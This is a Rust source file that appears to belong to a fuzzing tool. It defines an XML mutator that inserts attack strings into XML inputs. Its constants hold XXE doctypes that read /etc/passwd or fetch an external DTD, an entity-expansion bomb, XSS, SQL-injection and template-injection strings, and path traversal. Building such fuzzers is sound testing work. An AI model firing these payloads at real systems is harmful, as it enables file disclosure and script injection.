use super::{MutationError, MutationType, Mutator, pick};
use crate::random::SharedRandom;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum XmlMutationType {
    EntityInjection,
    TagMangling,
    AttributeMutation,
    CdataInjection,
}

impl XmlMutationType {
    pub const ALL: [XmlMutationType; 4] = [
        XmlMutationType::EntityInjection,
        XmlMutationType::TagMangling,
        XmlMutationType::AttributeMutation,
        XmlMutationType::CdataInjection,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            XmlMutationType::EntityInjection => "entity_injection",
            XmlMutationType::TagMangling => "tag_mangling",
            XmlMutationType::AttributeMutation => "attribute_mutation",
            XmlMutationType::CdataInjection => "cdata_injection",
        }
    }
}

const XXE_DOCTYPES: &[&str] = &[
    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://127.0.0.1:80/\">]>",
    "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://127.0.0.1/evil.dtd\"> %xxe;]>",
    "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;\">]>",
];

const ATTRIBUTE_INJECTIONS: &[&str] = &[
    "\"><script>alert(1)</script>",
    "' OR '1'='1",
    "&xxe;",
    "{{7*7}}",
    "../../../../etc/passwd",
    "javascript:alert(1)",
];

const CDATA_PAYLOADS: &[&str] = &[
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[]]]]><![CDATA[>]]>",
];

const FABRICATED_ATTRIBUTE: &[u8] = b" onload=\"alert(1)\"";
const TAG_PREFIX: &[u8] = b"script:";

fn find(haystack: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    if from > haystack.len() {
        return None;
    }
    haystack[from..]
        .windows(needle.len())
        .position(|window| window == needle)
        .map(|pos| pos + from)
}

fn splice(input: &[u8], at: usize, remove: usize, insert: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(input.len() + insert.len());
    out.extend_from_slice(&input[..at]);
    out.extend_from_slice(insert);
    out.extend_from_slice(&input[at + remove..]);
    out
}

/// Byte span of the first element name, skipping `<?...?>` and `<!...>`.
fn first_tag_name(input: &[u8]) -> Option<(usize, usize)> {
    let mut pos = 0;
    while let Some(open) = find(input, b"<", pos) {
        match input.get(open + 1) {
            Some(b'?') | Some(b'!') | Some(b'/') => pos = open + 1,
            Some(_) => {
                let start = open + 1;
                let len = input[start..]
                    .iter()
                    .take_while(|b| !b.is_ascii_whitespace() && **b != b'>' && **b != b'/')
                    .count();
                if len > 0 {
                    return Some((start, start + len));
                }
                pos = start;
            }
            None => return None,
        }
    }
    None
}

/// Byte-level XML mutator. Input that does not start with `<` is returned
/// unchanged.
pub struct XmlMutator {
    mutation_type: XmlMutationType,
    name: String,
    rng: SharedRandom,
}

impl XmlMutator {
    pub fn new(mutation_type: XmlMutationType, rng: SharedRandom) -> Self {
        Self {
            mutation_type,
            name: format!("xml_{}", mutation_type.as_str()),
            rng,
        }
    }

    fn inject_entity(&self, input: &[u8]) -> Vec<u8> {
        let doctype = pick(&*self.rng, XXE_DOCTYPES).as_bytes();
        let insert_at = if input.starts_with(b"<?xml") {
            find(input, b"?>", 0).map(|end| end + 2).unwrap_or(0)
        } else {
            0
        };
        splice(input, insert_at, 0, doctype)
    }

    fn mangle_tag(&self, input: &[u8]) -> Vec<u8> {
        let Some((start, end)) = first_tag_name(input) else {
            return input.to_vec();
        };
        match self.rng.uniform_int(3) {
            0 => {
                let upper = input[start..end].to_ascii_uppercase();
                splice(input, start, end - start, &upper)
            }
            1 => splice(input, end, 0, FABRICATED_ATTRIBUTE),
            _ => splice(input, start, 0, TAG_PREFIX),
        }
    }

    fn mutate_attribute(&self, input: &[u8]) -> Vec<u8> {
        let Some(open) = find(input, b"=\"", 0) else {
            return input.to_vec();
        };
        let value_start = open + 2;
        let Some(value_end) = find(input, b"\"", value_start) else {
            return input.to_vec();
        };
        let injection = pick(&*self.rng, ATTRIBUTE_INJECTIONS).as_bytes();
        splice(input, value_start, value_end - value_start, injection)
    }

    fn inject_cdata(&self, input: &[u8]) -> Vec<u8> {
        match find(input, b">", 0) {
            Some(close) => splice(input, close + 1, 0, pick(&*self.rng, CDATA_PAYLOADS).as_bytes()),
            None => input.to_vec(),
        }
    }
}

impl Mutator for XmlMutator {
    fn name(&self) -> &str {
        &self.name
    }

    fn description(&self) -> &str {
        "Injects XXE, CDATA and tag/attribute corruption into XML"
    }

    fn mutate(&self, input: &[u8]) -> Result<Vec<u8>, MutationError> {
        if !input.starts_with(b"<") {
            return Ok(input.to_vec());
        }
        Ok(match self.mutation_type {
            XmlMutationType::EntityInjection => self.inject_entity(input),
            XmlMutationType::TagMangling => self.mangle_tag(input),
            XmlMutationType::AttributeMutation => self.mutate_attribute(input),
            XmlMutationType::CdataInjection => self.inject_cdata(input),
        })
    }

    fn mutation_type(&self) -> MutationType {
        MutationType::StructureAware
    }
}
